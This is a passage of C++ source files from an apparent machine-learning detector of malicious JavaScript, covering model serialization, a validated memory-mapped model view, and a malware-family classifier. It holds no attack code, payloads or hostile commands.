      throw ser::FormatError("implausible model dimensions");
    }
  });

  vocab_ = paths::PathVocab();
  ser::with_section(in, "vocab", [&] { vocab_.load(in); });
  model_.load(in);

  ser::with_section(in, "clusters", [&] {
    ser::expect_tag(in, "CLST");
    const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
    centroids_ = ml::Matrix(feature_dim_, d);
    centroids_.data() = ser::read_doubles(in);
    if (centroids_.data().size() != feature_dim_ * d) {
      throw ser::FormatError("centroid matrix size mismatch");
    }
    centroid_benign_.assign(benign_word_count(feature_dim_), 0);
    if (version == kVersionPacked) {
      const std::uint64_t n_words = ser::read_u64(in);
      if (n_words != centroid_benign_.size()) {
        throw ser::FormatError("benign bitset word count mismatch");
      }
      for (std::uint64_t& w : centroid_benign_) w = ser::read_u64(in);
    } else {
      // v1/v2 spent a full double per flag; fold into the packed words.
      const std::vector<double> benign_flags = ser::read_doubles(in);
      for (std::size_t i = 0;
           i < feature_dim_ && i < benign_flags.size(); ++i) {
        set_benign_bit(centroid_benign_.data(), i, benign_flags[i] != 0.0);
      }
    }
    centroid_radius_ = ser::read_doubles(in);
    if (centroid_radius_.size() != feature_dim_) {
      throw ser::FormatError("centroid radius size mismatch");
    }
    const std::uint64_t n_paths = ser::read_u64(in);
    if (n_paths != feature_dim_) {
      throw ser::FormatError("central path count mismatch");
    }
    central_path_.clear();
    central_path_.reserve(n_paths);
    for (std::uint64_t i = 0; i < n_paths; ++i) {
      central_path_.push_back(ser::read_string(in));
    }
  });

  scaler_.load(in);
  auto forest = std::make_unique<ml::RandomForest>();
  forest->load(in);
  classifier_ = std::move(forest);
  cfg_.classifier = ml::ClassifierKind::kRandomForest;
  trained_ = true;
}

void JsRevealer::save_file(const std::string& path) const {
  std::ofstream out(path, std::ios::binary);
  if (!out) throw std::runtime_error("cannot open for writing: " + path);
  save(out);
  if (!out) throw std::runtime_error("write failed: " + path);
}

void JsRevealer::load_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error("cannot open for reading: " + path);
  load(in);
}

}  // namespace jsrev::core
