// JsRevealer trained-model persistence.
//
// Layout: MAGIC "JSRV" + version, the pipeline dimensions, then sections
// for the path vocabulary, attention model, cluster geometry,
// interpretability index, scaler, and the random-forest classifier.
#include <fstream>
#include <stdexcept>

#include "core/jsrevealer.h"
#include "ml/decision_tree.h"
#include "util/serialize.h"

namespace jsrev::core {

namespace {
// Version 1: the original layout (no lint features). Version 2 adds one
// u64 — the lint summary-vector width — right after the version field.
// Models trained with lint features off are written as version 1, so their
// bytes are identical to pre-lint builds.
constexpr std::uint64_t kVersionBase = 1;
constexpr std::uint64_t kVersionLint = 2;
}  // namespace

void JsRevealer::save(std::ostream& out) const {
  if (!trained_) {
    throw std::logic_error("JsRevealer::save: detector is not trained");
  }
  const auto* forest =
      dynamic_cast<const ml::RandomForest*>(classifier_.get());
  if (forest == nullptr) {
    throw std::logic_error(
        "JsRevealer::save: persistence supports the random-forest "
        "classifier only");
  }

  ser::write_tag(out, "JSRV");
  ser::write_u64(out, lint_dim_ == 0 ? kVersionBase : kVersionLint);
  if (lint_dim_ != 0) ser::write_u64(out, lint_dim_);

  // Pipeline dimensions needed to interpret the sections.
  ser::write_u64(out, static_cast<std::uint64_t>(cfg_.embedding_dim));
  ser::write_u64(out, feature_dim_);
  ser::write_u64(out, clusters_removed_);
  ser::write_u64(out, cfg_.path.use_dataflow ? 1 : 0);
  ser::write_u64(out, static_cast<std::uint64_t>(cfg_.path.max_length));
  ser::write_u64(out, static_cast<std::uint64_t>(cfg_.path.max_width));

  vocab_.save(out);
  model_.save(out);

  ser::write_tag(out, "CLST");
  ser::write_doubles(out, centroids_.data());
  std::vector<double> benign_flags(feature_dim_);
  for (std::size_t i = 0; i < feature_dim_; ++i) {
    benign_flags[i] = centroid_benign_[i] ? 1.0 : 0.0;
  }
  ser::write_doubles(out, benign_flags);
  ser::write_doubles(out, centroid_radius_);
  ser::write_u64(out, central_path_.size());
  for (const std::string& p : central_path_) ser::write_string(out, p);

  scaler_.save(out);
  forest->save(out);
}

void JsRevealer::load(std::istream& in) {
  ser::expect_tag(in, "JSRV");
  const std::uint64_t version = ser::read_u64(in);
  if (version != kVersionBase && version != kVersionLint) {
    throw ser::FormatError("unsupported model version " +
                           std::to_string(version));
  }
  lint_dim_ = version == kVersionLint ? ser::read_u64(in) : 0;
  if (lint_dim_ != 0 && lint_dim_ != lint::kLintFeatureDim) {
    throw ser::FormatError("lint feature width mismatch: file has " +
                           std::to_string(lint_dim_));
  }
  cfg_.lint_features = lint_dim_ != 0;

  cfg_.embedding_dim = static_cast<int>(ser::read_u64(in));
  feature_dim_ = ser::read_u64(in);
  clusters_removed_ = ser::read_u64(in);
  cfg_.path.use_dataflow = ser::read_u64(in) != 0;
  cfg_.path.max_length = static_cast<int>(ser::read_u64(in));
  cfg_.path.max_width = static_cast<int>(ser::read_u64(in));

  vocab_ = paths::PathVocab();
  vocab_.load(in);
  model_.load(in);

  ser::expect_tag(in, "CLST");
  const auto d = static_cast<std::size_t>(cfg_.embedding_dim);
  centroids_ = ml::Matrix(feature_dim_, d);
  centroids_.data() = ser::read_doubles(in);
  if (centroids_.data().size() != feature_dim_ * d) {
    throw ser::FormatError("centroid matrix size mismatch");
  }
  const std::vector<double> benign_flags = ser::read_doubles(in);
  centroid_benign_.assign(feature_dim_, false);
  for (std::size_t i = 0; i < feature_dim_ && i < benign_flags.size(); ++i) {
    centroid_benign_[i] = benign_flags[i] != 0.0;
  }
  centroid_radius_ = ser::read_doubles(in);
  const std::uint64_t n_paths = ser::read_u64(in);
  central_path_.clear();
  central_path_.reserve(n_paths);
  for (std::uint64_t i = 0; i < n_paths; ++i) {
    central_path_.push_back(ser::read_string(in));
  }

  scaler_.load(in);
  auto forest = std::make_unique<ml::RandomForest>();
  forest->load(in);
  classifier_ = std::move(forest);
  cfg_.classifier = ml::ClassifierKind::kRandomForest;
  trained_ = true;
}

void JsRevealer::save_file(const std::string& path) const {
  std::ofstream out(path, std::ios::binary);
  if (!out) throw std::runtime_error("cannot open for writing: " + path);
  save(out);
  if (!out) throw std::runtime_error("write failed: " + path);
}

void JsRevealer::load_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error("cannot open for reading: " + path);
  load(in);
}

}  // namespace jsrev::core
