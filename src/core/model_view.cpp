#include "core/model_view.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <stdexcept>
#include <string_view>

#include "util/hash.h"
#include "util/serialize.h"
#include "util/thread_pool.h"
#include "util/timer.h"

namespace jsrev::core {

namespace {

[[noreturn]] void fail(const char* section, std::uint64_t offset,
                       const std::string& detail) {
  throw ser::ModelFormatError(section, offset, detail);
}

void require(bool ok, const char* section, std::uint64_t offset,
             const std::string& detail) {
  if (!ok) fail(section, offset, detail);
}

bool is_pow2(std::uint32_t v) { return v != 0 && (v & (v - 1)) == 0; }

std::uint64_t payload_checksum(const std::uint8_t* data,
                               const fmt::SectionRec& rec) {
  if (rec.size == 0) return fnv1a64_begin();
  return fnv1a64(std::string_view(
      reinterpret_cast<const char*>(data + rec.offset), rec.size));
}

}  // namespace

// ---------------------------------------------------------------------------
// MappedFile

MappedFile::MappedFile(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    throw std::runtime_error("cannot open for mapping: " + path);
  }
  struct stat st{};
  if (::fstat(fd, &st) != 0) {
    ::close(fd);
    throw std::runtime_error("cannot stat: " + path);
  }
  size_ = static_cast<std::size_t>(st.st_size);
  if (size_ != 0) {
    void* p = ::mmap(nullptr, size_, PROT_READ, MAP_SHARED, fd, 0);
    if (p == MAP_FAILED) {
      ::close(fd);
      throw std::runtime_error("mmap failed: " + path);
    }
    data_ = static_cast<const std::uint8_t*>(p);
  }
  ::close(fd);  // the mapping keeps the file alive
}

MappedFile::~MappedFile() {
  if (data_ != nullptr) {
    ::munmap(const_cast<std::uint8_t*>(data_), size_);
  }
}

// ---------------------------------------------------------------------------
// ModelView: attach + validation

void ModelView::map_file(const std::string& path, bool verify_checksums) {
  auto file = std::make_shared<MappedFile>(path);
  const std::uint8_t* data = file->data();
  const std::size_t size = file->size();
  attach(std::move(file), data, size, verify_checksums);
}

void ModelView::from_buffer(std::vector<std::uint8_t> bytes,
                            bool verify_checksums) {
  auto owned = std::make_shared<std::vector<std::uint8_t>>(std::move(bytes));
  const std::uint8_t* data = owned->data();
  const std::size_t size = owned->size();
  attach(std::move(owned), data, size, verify_checksums);
}

const std::uint8_t* ModelView::section_payload(fmt::SectionId id,
                                               std::size_t* size_out) const {
  for (const fmt::SectionRec& rec : sections_) {
    if (rec.id == static_cast<std::uint32_t>(id)) {
      *size_out = rec.size;
      return data_ + rec.offset;
    }
  }
  fail(fmt::section_name(id), 0, "section missing");
}

void ModelView::attach(std::shared_ptr<const void> owner,
                       const std::uint8_t* data, std::size_t size,
                       bool verify_checksums) {
  // --- header ---
  require(size >= sizeof(fmt::ArtifactHeader), "header", 0,
          "truncated before the header ends (" + std::to_string(size) +
              " bytes)");
  fmt::ArtifactHeader hdr;
  std::memcpy(&hdr, data, sizeof(hdr));
  require(std::memcmp(hdr.magic, fmt::kMagic, sizeof(hdr.magic)) == 0,
          "header", 0, "bad magic (not a JSRM artifact)");
  require(hdr.version == fmt::kFormatVersion, "header", 4,
          "unsupported artifact version " + std::to_string(hdr.version));
  require(hdr.file_size == size, "header", 8,
          "file size mismatch: header says " + std::to_string(hdr.file_size) +
              ", file has " + std::to_string(size));
  require(hdr.section_count == fmt::kSectionCount, "header", 16,
          "unexpected section count " + std::to_string(hdr.section_count));
  require(hdr.embedding_dim > 0 && hdr.embedding_dim <= (1u << 20), "header",
          24, "implausible embedding_dim");
  require(hdr.feature_dim <= (1u << 24), "header", 28,
          "implausible feature_dim");
  require(hdr.lint_dim == 0 || hdr.lint_dim == lint::kLintFeatureDim,
          "header", 32,
          "lint feature width mismatch: file has " +
              std::to_string(hdr.lint_dim));
  require(hdr.vocab_table_size == 0 || is_pow2(hdr.vocab_table_size),
          "header", 44, "vocabulary table size is not a power of two");
  require(hdr.vocab_size == 0 || hdr.vocab_table_size > hdr.vocab_size,
          "header", 44, "vocabulary table smaller than the vocabulary");

  // --- section table ---
  const std::uint64_t table_end =
      sizeof(fmt::ArtifactHeader) +
      static_cast<std::uint64_t>(hdr.section_count) * sizeof(fmt::SectionRec);
  require(size >= table_end, "section_table", sizeof(fmt::ArtifactHeader),
          "truncated inside the section table");
  std::vector<fmt::SectionRec> sections(hdr.section_count);
  std::memcpy(sections.data(), data + sizeof(fmt::ArtifactHeader),
              hdr.section_count * sizeof(fmt::SectionRec));

  std::uint32_t seen_ids = 0;
  for (const fmt::SectionRec& rec : sections) {
    const auto id = static_cast<fmt::SectionId>(rec.id);
    const char* name = fmt::section_name(id);
    require(rec.id >= 1 && rec.id <= fmt::kSectionCount, "section_table",
            rec.offset, "unknown section id " + std::to_string(rec.id));
    require((seen_ids & (1u << rec.id)) == 0, "section_table", rec.offset,
            std::string("duplicate section ") + name);
    seen_ids |= 1u << rec.id;
    require(rec.reserved == 0, name, rec.offset,
            "reserved field is not zero");
    require(rec.offset % fmt::kSectionAlign == 0, name, rec.offset,
            "payload is not aligned");
    require(rec.offset >= table_end && rec.offset <= size &&
                rec.size <= size - rec.offset,
            name, rec.offset, "payload exceeds the file");
    if (verify_checksums) {
      const std::uint64_t got = payload_checksum(data, rec);
      require(got == rec.checksum, name, rec.offset,
              "checksum mismatch (payload corrupted)");
    }
  }

  // Commit storage so section_payload() works for the cross-checks below;
  // on any later failure the view is left unloaded again.
  owner_ = std::move(owner);
  data_ = data;
  size_ = size;
  header_ = hdr;
  sections_ = std::move(sections);
  struct Rollback {
    ModelView* v;
    bool armed = true;
    ~Rollback() {
      if (armed) {
        v->owner_.reset();
        v->data_ = nullptr;
        v->size_ = 0;
        v->sections_.clear();
      }
    }
  } rollback{this};

  const auto d = static_cast<std::size_t>(hdr.embedding_dim);
  const std::size_t n_features = hdr.feature_dim + hdr.lint_dim;
  auto expect_size = [&](fmt::SectionId id, std::uint64_t want) {
    std::size_t got = 0;
    const std::uint8_t* p = section_payload(id, &got);
    require(got == want, fmt::section_name(id),
            static_cast<std::uint64_t>(p - data_),
            "payload is " + std::to_string(got) + " bytes, expected " +
                std::to_string(want));
    return p;
  };

  // --- vocabulary ---
  const auto* entries = reinterpret_cast<const paths::VocabEntryRec*>(
      expect_size(fmt::SectionId::kVocabEntries,
                  std::uint64_t(hdr.vocab_size) * sizeof(paths::VocabEntryRec)));
  const auto* table = reinterpret_cast<const std::uint32_t*>(expect_size(
      fmt::SectionId::kVocabTable,
      std::uint64_t(hdr.vocab_table_size) * sizeof(std::uint32_t)));
  std::size_t blob_size = 0;
  const auto* blob = reinterpret_cast<const char*>(
      section_payload(fmt::SectionId::kVocabBlob, &blob_size));
  for (std::uint32_t i = 0; i < hdr.vocab_size; ++i) {
    const paths::VocabEntryRec& e = entries[i];
    const bool segments_fit =
        e.length <= blob_size && e.offset <= blob_size - e.length &&
        std::uint64_t(e.source_len) + 1 + e.path_len + 1 <= e.length;
    require(segments_fit, "vocab.entries", i,
            "entry " + std::to_string(i) + " exceeds the key blob");
  }
  for (std::uint32_t s = 0; s < hdr.vocab_table_size; ++s) {
    require(table[s] <= hdr.vocab_size, "vocab.table", s,
            "probe slot points past the vocabulary");
  }
  vocab_ = paths::PathVocabView(blob, entries, hdr.vocab_size, table,
                                hdr.vocab_table_size);

  // --- attention model ---
  attn_.w = reinterpret_cast<const double*>(expect_size(
      fmt::SectionId::kAttentionW, std::uint64_t(hdr.vocab_size) * d * 8));
  attn_.attn = reinterpret_cast<const double*>(
      expect_size(fmt::SectionId::kAttentionA, std::uint64_t(d) * 8));
  attn_.u = reinterpret_cast<const double*>(
      expect_size(fmt::SectionId::kAttentionU, std::uint64_t(2) * d * 8));
  attn_.bias = reinterpret_cast<const double*>(
      expect_size(fmt::SectionId::kAttentionBias, 16));
  attn_.vocab_size = hdr.vocab_size;
  attn_.dim = hdr.embedding_dim;

  // --- cluster geometry ---
  cluster_.centroids = reinterpret_cast<const double*>(expect_size(
      fmt::SectionId::kCentroids, std::uint64_t(hdr.feature_dim) * d * 8));
  cluster_.radius = reinterpret_cast<const double*>(expect_size(
      fmt::SectionId::kCentroidRadius, std::uint64_t(hdr.feature_dim) * 8));
  cluster_.benign = reinterpret_cast<const std::uint64_t*>(expect_size(
      fmt::SectionId::kCentroidBenign,
      std::uint64_t(benign_word_count(hdr.feature_dim)) * 8));
  cluster_.feature_dim = hdr.feature_dim;
  cluster_.dim = hdr.embedding_dim;
  cluster_.binary_features =
      (hdr.flags & fmt::kFlagBinaryClusterFeatures) != 0;

  // --- interpretability index ---
  central_offsets_ = reinterpret_cast<const std::uint32_t*>(
      expect_size(fmt::SectionId::kCentralPathOffsets,
                  (std::uint64_t(hdr.feature_dim) + 1) * sizeof(std::uint32_t)));
  std::size_t central_blob_size = 0;
  central_blob_ = reinterpret_cast<const char*>(
      section_payload(fmt::SectionId::kCentralPathBlob, &central_blob_size));
  require(central_offsets_[0] == 0, "clusters.central_offsets", 0,
          "prefix table does not start at zero");
  for (std::uint32_t f = 0; f < hdr.feature_dim; ++f) {
    require(central_offsets_[f] <= central_offsets_[f + 1] &&
                central_offsets_[f + 1] <= central_blob_size,
            "clusters.central_offsets", f, "prefix table is not monotone");
  }

  // --- scaler ---
  scaler_min_ = reinterpret_cast<const double*>(
      expect_size(fmt::SectionId::kScalerMin, std::uint64_t(n_features) * 8));
  scaler_max_ = reinterpret_cast<const double*>(
      expect_size(fmt::SectionId::kScalerMax, std::uint64_t(n_features) * 8));

  // --- forest ---
  const auto* offsets = reinterpret_cast<const std::uint32_t*>(
      expect_size(fmt::SectionId::kForestOffsets,
                  (std::uint64_t(hdr.n_trees) + 1) * sizeof(std::uint32_t)));
  std::size_t nodes_size = 0;
  const auto* nodes = reinterpret_cast<const ml::ForestNodeRec*>(
      section_payload(fmt::SectionId::kForestNodes, &nodes_size));
  require(nodes_size % sizeof(ml::ForestNodeRec) == 0, "forest.nodes", 0,
          "node pool is not a whole number of records");
  const std::size_t n_nodes = nodes_size / sizeof(ml::ForestNodeRec);
  require(offsets[0] == 0, "forest.offsets", 0,
          "prefix table does not start at zero");
  for (std::uint32_t t = 0; t < hdr.n_trees; ++t) {
    require(offsets[t] <= offsets[t + 1] && offsets[t + 1] <= n_nodes,
            "forest.offsets", t, "prefix table is not monotone");
    const std::uint32_t tree_size = offsets[t + 1] - offsets[t];
    for (std::uint32_t i = offsets[t]; i < offsets[t + 1]; ++i) {
      const ml::ForestNodeRec& n = nodes[i];
      if (n.feature < 0) continue;  // leaf
      const bool ok =
          static_cast<std::uint32_t>(n.feature) < n_features &&
          n.left >= 0 && static_cast<std::uint32_t>(n.left) < tree_size &&
          n.right >= 0 && static_cast<std::uint32_t>(n.right) < tree_size;
      require(ok, "forest.nodes", i,
              "node " + std::to_string(i) + " indexes out of bounds");
    }
  }
  require(offsets[hdr.n_trees] == n_nodes, "forest.offsets", hdr.n_trees,
          "node pool has unreachable tail nodes");
  forest_.nodes = nodes;
  forest_.offsets = offsets;
  forest_.n_trees = hdr.n_trees;
  forest_.n_features = static_cast<std::uint32_t>(n_features);

  path_cfg_ = paths::PathConfig{};
  path_cfg_.max_length = static_cast<int>(hdr.path_max_length);
  path_cfg_.max_width = static_cast<int>(hdr.path_max_width);
  path_cfg_.use_dataflow = (hdr.flags & fmt::kFlagUseDataflow) != 0;
  deobfuscate_ = (hdr.flags & fmt::kFlagDeobfuscate) != 0;

  rollback.armed = false;
}

ArtifactInfo ModelView::info() const {
  ArtifactInfo out;
  out.header = header_;
  for (const fmt::SectionRec& rec : sections_) {
    ArtifactSectionInfo si;
    si.rec = rec;
    si.name = fmt::section_name(static_cast<fmt::SectionId>(rec.id));
    si.checksum_ok = payload_checksum(data_, rec) == rec.checksum;
    out.sections.push_back(si);
  }
  return out;
}

// ---------------------------------------------------------------------------
// Inference (mirrors JsRevealer's heap path through the shared kernels)

void ModelView::train(const dataset::Corpus&) {
  throw std::logic_error(
      "ModelView is immutable; train a JsRevealer and save_artifact()");
}

std::vector<double> ModelView::featurize(const std::string& source) const {
  return featurize(
      analysis::ScriptAnalysis(source, parse_limits_, deobfuscate_));
}

std::vector<double> ModelView::featurize(
    const analysis::ScriptAnalysis& analysis) const {
  if (analysis.parse_failed()) {
    throw std::runtime_error(analysis.parse_error());
  }
  obs::VerdictProvenance* prov = analysis.provenance();
  const analysis::DataFlowInfo* flow =
      path_cfg_.use_dataflow ? &analysis.dataflow() : nullptr;
  const auto pcs = paths::extract_paths(analysis.root(), flow, path_cfg_);

  Timer t_embed;
  std::vector<std::int32_t> ids;
  ids.reserve(pcs.size());
  for (const auto& pc : pcs) ids.push_back(vocab_.lookup(pc));
  ml::EmbeddedScript emb = ml::embed_paths(attn_, ids);
  const double embed_ms = t_embed.elapsed_ms();

  std::vector<double> f = cluster_features(cluster_, emb, prov);
  if (header_.lint_dim != 0) {
    Timer t_lint;
    const lint::LintResult lr = linter_.lint(analysis);
    const std::vector<double> lf = lint::lint_feature_vector(lr);
    f.insert(f.end(), lf.begin(), lf.end());
    if (prov != nullptr) {
      prov->stage_ms.lint = t_lint.elapsed_ms();
      prov->lint_malice_diags = 0;
      prov->lint_hygiene_diags = 0;
      prov->lint_rules_fired.clear();
      for (const lint::Diagnostic& diag : lr.diagnostics) {
        if (diag.category == lint::Category::kMalice) {
          ++prov->lint_malice_diags;
        } else {
          ++prov->lint_hygiene_diags;
        }
        prov->lint_rules_fired.push_back(diag.rule_id);
      }
      std::sort(prov->lint_rules_fired.begin(), prov->lint_rules_fired.end());
      prov->lint_rules_fired.erase(
          std::unique(prov->lint_rules_fired.begin(),
                      prov->lint_rules_fired.end()),
          prov->lint_rules_fired.end());
    }
  }
  if (prov != nullptr) {
    prov->source_bytes = analysis.source().size();
    prov->path_count = pcs.size();
    prov->known_path_count = static_cast<std::size_t>(
        std::count_if(ids.begin(), ids.end(),
                      [](std::int32_t id) { return id >= 0; }));
    prov->stage_ms.embedding = embed_ms;
    prov->train_clusters_removed = header_.clusters_removed;
  }
  ml::scale_row(f.data(), scaler_min_, scaler_max_, f.size());
  return f;
}

int ModelView::classify(const std::string& source) const {
  return classify(
      analysis::ScriptAnalysis(source, parse_limits_, deobfuscate_));
}

int ModelView::classify(const analysis::ScriptAnalysis& analysis) const {
  obs::VerdictProvenance* prov = analysis.provenance();
  if (prov != nullptr) {
    prov->detector = name();
    prov->source_bytes = analysis.source().size();
    prov->train_clusters_removed = header_.clusters_removed;
  }
  if (!loaded()) {
    if (prov != nullptr) prov->verdict = 1;
    return record_verdict(1);
  }
  const int verdict = analysis.classify_or_malicious([&]() -> int {
    try {
      const std::vector<double> f = featurize(analysis);
      Timer t;
      const int v = forest_.predict(f.data());
      if (prov != nullptr) prov->stage_ms.classify = t.elapsed_ms();
      return v;
    } catch (const std::exception&) {
      return 1;  // degenerate input that survives the parse → same verdict
    }
  });
  if (prov != nullptr) {
    prov->verdict = verdict;
    prov->parse_failed = analysis.parse_failed();
    if (prov->parse_failed) {
      prov->parse_error = analysis.parse_error();
      prov->parse_limit_trip = analysis.parse_limit_trip();
    }
  }
  return record_verdict(verdict);
}

std::vector<int> ModelView::classify_all(
    const std::vector<std::string>& sources) const {
  // Inference is read-only over the mapping, so scripts fan out
  // independently with verdicts written to disjoint slots.
  std::vector<int> verdicts(sources.size(), 1);
  parallel_for_threads(threads_, sources.size(), [&](std::size_t i) {
    verdicts[i] = classify(sources[i]);
  });
  return verdicts;
}

std::vector<int> ModelView::classify_all(
    const analysis::AnalyzedCorpus& corpus) const {
  std::vector<int> verdicts(corpus.size(), 1);
  parallel_for_threads(threads_, corpus.size(), [&](std::size_t i) {
    verdicts[i] = classify(*corpus.scripts[i]);
  });
  return verdicts;
}

obs::VerdictProvenance ModelView::explain(const std::string& source) const {
  analysis::ScriptAnalysis analysis(source, parse_limits_, deobfuscate_);
  analysis.enable_provenance();
  classify(analysis);
  return *analysis.provenance();
}

}  // namespace jsrev::core
