#include "core/family_classifier.h"

#include <algorithm>

#include "util/thread_pool.h"

namespace jsrev::core {

FamilyClassifier::FamilyClassifier(std::size_t threads) : threads_(threads) {
  ml::MulticlassForestConfig fc;
  fc.threads = threads;
  forest_ = ml::MulticlassRandomForest(fc);
}

std::size_t FamilyClassifier::train(const JsRevealer& detector,
                                    const dataset::Corpus& corpus) {
  label_.clear();
  families_.clear();

  std::vector<const dataset::Sample*> malicious;
  for (const auto& s : corpus.samples) {
    if (s.label == 1 && !s.family.empty()) malicious.push_back(&s);
  }
  if (malicious.empty()) return 0;

  for (const auto* s : malicious) {
    if (label_.emplace(s->family, static_cast<int>(families_.size())).second) {
      families_.push_back(s->family);
    }
  }

  // Featurization fans out per sample; the failed-sample compaction below
  // stays serial in sample order so row order matches the serial path.
  std::vector<std::vector<double>> feats(malicious.size());
  parallel_for_threads(threads_, malicious.size(), [&](std::size_t i) {
    try {
      feats[i] = detector.featurize(malicious[i]->source);
    } catch (const std::exception&) {
      // left empty: skipped during compaction
    }
  });

  ml::Matrix x(malicious.size(), detector.feature_count());
  std::vector<int> y(malicious.size());
  std::size_t used = 0;
  for (std::size_t i = 0; i < malicious.size(); ++i) {
    if (feats[i].empty()) continue;
    std::copy(feats[i].begin(), feats[i].end(), x.row(used));
    y[used] = label_.at(malicious[i]->family);
    ++used;
  }
  // Shrink to the rows actually filled.
  ml::Matrix xs(used, detector.feature_count());
  for (std::size_t i = 0; i < used; ++i) {
    std::copy(x.row(i), x.row(i) + x.cols(), xs.row(i));
  }
  y.resize(used);

  forest_.fit(xs, y);
  trained_ = true;
  return used;
}

std::string FamilyClassifier::classify(const JsRevealer& detector,
                                       const std::string& source) const {
  if (!trained_) return {};
  std::vector<double> f;
  try {
    f = detector.featurize(source);
  } catch (const std::exception&) {
    return {};
  }
  const int label = forest_.predict(f.data());
  return label >= 0 && static_cast<std::size_t>(label) < families_.size()
             ? families_[static_cast<std::size_t>(label)]
             : std::string();
}

double FamilyClassifier::evaluate(const JsRevealer& detector,
                                  const dataset::Corpus& corpus) const {
  std::size_t correct = 0, total = 0;
  for (const auto& s : corpus.samples) {
    if (s.label != 1 || s.family.empty() || label_of(s.family) < 0) continue;
    ++total;
    correct += classify(detector, s.source) == s.family;
  }
  return total > 0 ? static_cast<double>(correct) / static_cast<double>(total)
                   : 0.0;
}

std::vector<std::vector<double>> FamilyClassifier::confusion(
    const JsRevealer& detector, const dataset::Corpus& corpus) const {
  const std::size_t k = families_.size();
  std::vector<std::vector<double>> m(k, std::vector<double>(k, 0.0));
  std::vector<std::size_t> row_totals(k, 0);
  for (const auto& s : corpus.samples) {
    if (s.label != 1 || s.family.empty()) continue;
    const int truth = label_of(s.family);
    if (truth < 0) continue;
    const std::string predicted = classify(detector, s.source);
    const int pred = label_of(predicted);
    if (pred < 0) continue;
    m[static_cast<std::size_t>(truth)][static_cast<std::size_t>(pred)] += 1.0;
    ++row_totals[static_cast<std::size_t>(truth)];
  }
  for (std::size_t r = 0; r < k; ++r) {
    if (row_totals[r] == 0) continue;
    for (double& v : m[r]) v /= static_cast<double>(row_totals[r]);
  }
  return m;
}

}  // namespace jsrev::core
