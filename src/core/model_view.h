// Immutable, zero-copy inference over a mapped JSRM model artifact.
//
// ModelView is the read-only half of the trainer/view split: JsRevealer
// trains and writes the artifact (core/artifact_io.cpp); ModelView maps it
// and classifies straight out of the mapped bytes. No parameter is parsed
// into owned storage — the vocabulary probe table, attention matrices,
// cluster geometry, scaler bounds, and forest node pool are all borrowed
// pointers into the mapping, so N detector processes sharing one artifact
// share one page cache copy, and opening a model costs validation (header,
// section table, checksums, index bounds) instead of deserialization.
//
// Verdicts are bit-identical to the JsRevealer that wrote the artifact: the
// view calls the same raw-pointer kernels (ml/model_view_ops.h,
// core/feature_ops.h) the heap detector delegates to, over the same values.
//
// Aliasing contract: a ModelView keeps its backing storage (the mapped file
// or the from_buffer copy) alive through a shared_ptr, so copies of the view
// may outlive the object they were copied from; the artifact bytes must not
// be mutated externally while any view is live (the file is mapped
// MAP_SHARED — treat a published artifact as immutable, write a new file
// and swap paths to update).
//
// Malformed input — truncation, bit flips, inconsistent dimensions — always
// surfaces as ser::ModelFormatError at map/attach time, never as a crash or
// a silently wrong verdict later (fuzz oracle O6 in tools/jsr_fuzz.cpp).
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "baselines/detector.h"
#include "core/feature_ops.h"
#include "core/model_format.h"
#include "js/parse_limits.h"
#include "lint/linter.h"
#include "ml/model_view_ops.h"
#include "paths/path_extraction.h"
#include "paths/vocab.h"

namespace jsrev::core {

/// A read-only, shared, page-cache-backed mapping of a whole file.
class MappedFile {
 public:
  /// Maps `path` read-only (PROT_READ, MAP_SHARED); throws
  /// std::runtime_error when the file cannot be opened or mapped.
  explicit MappedFile(const std::string& path);
  ~MappedFile();

  MappedFile(const MappedFile&) = delete;
  MappedFile& operator=(const MappedFile&) = delete;

  const std::uint8_t* data() const { return data_; }
  std::size_t size() const { return size_; }

 private:
  const std::uint8_t* data_ = nullptr;
  std::size_t size_ = 0;
};

/// One row of ModelView::info() (header + section table, for inspection).
struct ArtifactSectionInfo {
  fmt::SectionRec rec;
  const char* name = "";
  bool checksum_ok = false;
};

struct ArtifactInfo {
  fmt::ArtifactHeader header;
  std::vector<ArtifactSectionInfo> sections;
};

class ModelView final : public detect::Detector {
 public:
  ModelView() = default;

  /// Maps an artifact file and validates it (format, checksums, indices).
  /// Throws ser::ModelFormatError on any malformed content.
  /// `verify_checksums` = false skips the per-section FNV pass (touching
  /// every page) for callers that trust the file, e.g. repeated warm opens.
  void map_file(const std::string& path, bool verify_checksums = true);

  /// Attaches to an in-memory artifact (the fuzz oracle's entry point);
  /// takes ownership of the bytes. Same validation as map_file.
  void from_buffer(std::vector<std::uint8_t> bytes,
                   bool verify_checksums = true);

  bool loaded() const { return data_ != nullptr; }

  /// Immutable: training is the heap detector's job.
  void train(const dataset::Corpus& corpus) override;

  int classify(const std::string& source) const override;
  int classify(const analysis::ScriptAnalysis& analysis) const override;
  std::string name() const override { return "JSRevealer[mapped]"; }

  /// Batch prediction, fanned out at `threads()` width; verdicts identical
  /// to per-source classify() at any width.
  std::vector<int> classify_all(const std::vector<std::string>& sources) const;
  std::vector<int> classify_all(const analysis::AnalyzedCorpus& corpus) const;

  /// Provenance-capturing classification (same record JsRevealer::explain
  /// fills, modulo the detector name and stage timings).
  obs::VerdictProvenance explain(const std::string& source) const;

  /// Feature vector for one script — bit-identical to the writer's
  /// JsRevealer::featurize.
  std::vector<double> featurize(const std::string& source) const;
  std::vector<double> featurize(const analysis::ScriptAnalysis& analysis) const;

  std::size_t feature_count() const {
    return header_.feature_dim + header_.lint_dim;
  }
  std::size_t vocab_size() const { return header_.vocab_size; }
  std::size_t tree_count() const { return header_.n_trees; }

  /// Parallel width for classify_all (0 = hardware concurrency).
  std::size_t threads() const { return threads_; }
  void set_threads(std::size_t n) { threads_ = n; }

  /// Inference configuration reconstructed from the artifact header —
  /// serving layers build their ScriptAnalysis with exactly these values so
  /// externally-built analyses classify bit-identically to classify(source).
  const js::ParseLimits& parse_limits() const { return parse_limits_; }
  bool deobfuscate() const { return deobfuscate_; }

  /// Header and section table of the attached artifact (jsr_model inspect).
  ArtifactInfo info() const;

  /// Borrowed vocabulary view (tests compare it against the trainer's).
  const paths::PathVocabView& vocab() const { return vocab_; }

